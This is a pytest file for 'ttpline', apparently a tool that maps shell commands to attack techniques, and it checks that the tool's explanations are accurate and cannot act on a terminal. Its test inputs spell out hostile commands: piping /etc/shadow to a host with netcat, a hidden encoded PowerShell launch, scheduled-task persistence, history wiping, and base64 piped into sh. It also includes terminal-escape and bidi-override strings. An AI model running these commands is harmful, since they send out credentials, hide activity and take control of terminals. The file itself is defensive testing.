"""The text says what the JSON says, and nothing in it can act on a terminal."""

import json
import re
from io import StringIO
from typing import Any

import pytest
from rich.console import Console
from tests.explain.shown_text import shown_text

from ttpline.domain.printable import printable
from ttpline.explain.explain import explain
from ttpline.explain.explanation import CommandExplanation
from ttpline.explain.render import show
from ttpline.models.hybrid import Hybrid
from ttpline.models.tfidf_lr import TfidfLr
from ttpline.testing.fixed_classifier import FixedClassifier

COMMANDS = (
    "cat /etc/shadow | nc 192.0.2.1 4444",
    r"schtasks /create /tn Updater /tr C:\Users\Public\a.exe /sc onlogon",
    "powershell -nop -w hidden -enc dwBoAG8AYQBtAGkA",
    "sudo sh -c 'history -c && rm ~/.bash_history'",
    "frobnicate --all",
    "git status",
)
MOST_SHOWN = 40_000
"""Characters of a page, whatever the command."""
ACTING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")


def as_json(explanation: CommandExplanation) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(json.dumps(explanation.to_dict()))
    return found


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("family", ["additive", "hybrid", "fixed"])
def test_everything_that_json_says_in_words_is_in_the_text(
    family: str, command: str, request: pytest.FixtureRequest
) -> None:
    explanation = explain(command, request.getfixturevalue(family))
    text, found = shown_text(explanation), as_json(explanation)
    said = list(found["notes"])
    for part in found["meaning"]["parts"]:
        said += [part["program"], *part["purposes"], *(fact["sentence"] for fact in part["facts"])]
        said += [f"`{option['text']}`" for option in part["options"]]
    said += [fact["sentence"] for fact in found["meaning"]["facts"]]
    said += [layer[key] for layer in found["meaning"]["layers"] for key in ("kind", "before", "after")]
    for each in found["explanations"]:
        said += [each["label"], each["name"], f"{100 * each['probability']:.1f} %", *each["tactics"]]
        said += [reason["sentence"] for reason in each["reasons"]]
    said += [found["runner_up"]["second"], *(reason["sentence"] for reason in found["runner_up"]["reasons"])]
    said += [
        f"without `{one['removed']['text'].strip()}`"
        for one in found["without"]
        if one["changes"] and one["removed"]["text"]
    ]
    assert [one for one in said if printable(one) not in text] == []


@pytest.mark.parametrize("command", COMMANDS)
def test_every_percentage_in_the_text_is_in_json(command: str, hybrid: Hybrid) -> None:
    explanation = explain(command, hybrid)
    found = as_json(explanation)
    known = {f"{100 * value:.1f}" for value in _probabilities(found)}
    shown = set(re.findall(r"(\d+\.\d) %", shown_text(explanation)))
    assert shown
    assert shown <= known


def _probabilities(node: object) -> list[float]:
    if isinstance(node, dict):
        own = [node[key] for key in ("probability", "confidence") if isinstance(node.get(key), float)]
        return own + [value for child in node.values() for value in _probabilities(child)]
    return [value for child in node for value in _probabilities(child)] if isinstance(node, list) else []


def test_the_sum_of_a_model_that_adds_up_is_shown(additive: TfidfLr) -> None:
    text = shown_text(explain(COMMANDS[0], additive))
    assert "log-probability above the mean of all labels, exactly the sum" in text
    assert "T1003.008 OS Credential Dumping: /etc/passwd and /etc/shadow" in text


def test_a_terminal_gets_colours(fixed: FixedClassifier) -> None:
    console = Console(file=StringIO(), force_terminal=True, color_system="standard", width=100, legacy_windows=False)
    show(explain(COMMANDS[0], fixed), console)
    assert isinstance(console.file, StringIO)
    shown = console.file.getvalue()
    assert "\x1b[1;4;32m/etc/shadow" in shown
    assert "[++" not in shown


HOSTILE = {
    "escapes": "echo \x1b]0;owned\x07\x1b[2J\x1b[31m \x9b5n \u202egnp.exe",
    "decoded escapes": "echo G1szMW0bWzJKIC9ldGMvc2hhZG93Cg== | base64 -d | sh",
    "markup": "cat [bold]/etc/shadow[/bold] [/]",
    "surrogates": r"echo $'\ud800\xff' | sh",
    "many parts": " ; ".join(["cat /etc/shadow | nc 192.0.2.1 4444"] * 1_500),
    "one word": "a" * 65_000,
    "many options": "curl " + "-o a " * 12_000,
    "quotes": "'\"`$(" * 1_000,
    "names": "\x1b[31m/bin/\x07x --\x1b[2J=\u202e",
    "deep": 'sh -c "' * 200 + "id",
}


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("family", ["additive", "fixed", "hybrid"])
def test_hostile_commands_are_shown_short_and_without_effect(
    family: str, name: str, request: pytest.FixtureRequest
) -> None:
    explanation = explain(HOSTILE[name], request.getfixturevalue(family))
    text = shown_text(explanation, width=100)
    assert len(text) <= MOST_SHOWN
    assert ACTING.search(text) is None
    json.dumps(explanation.to_dict()).encode("utf-8")


def test_markup_in_a_command_is_text(fixed: FixedClassifier) -> None:
    assert "`[bold]/etc/shadow[/bold]`" in shown_text(explain(HOSTILE["markup"], fixed))
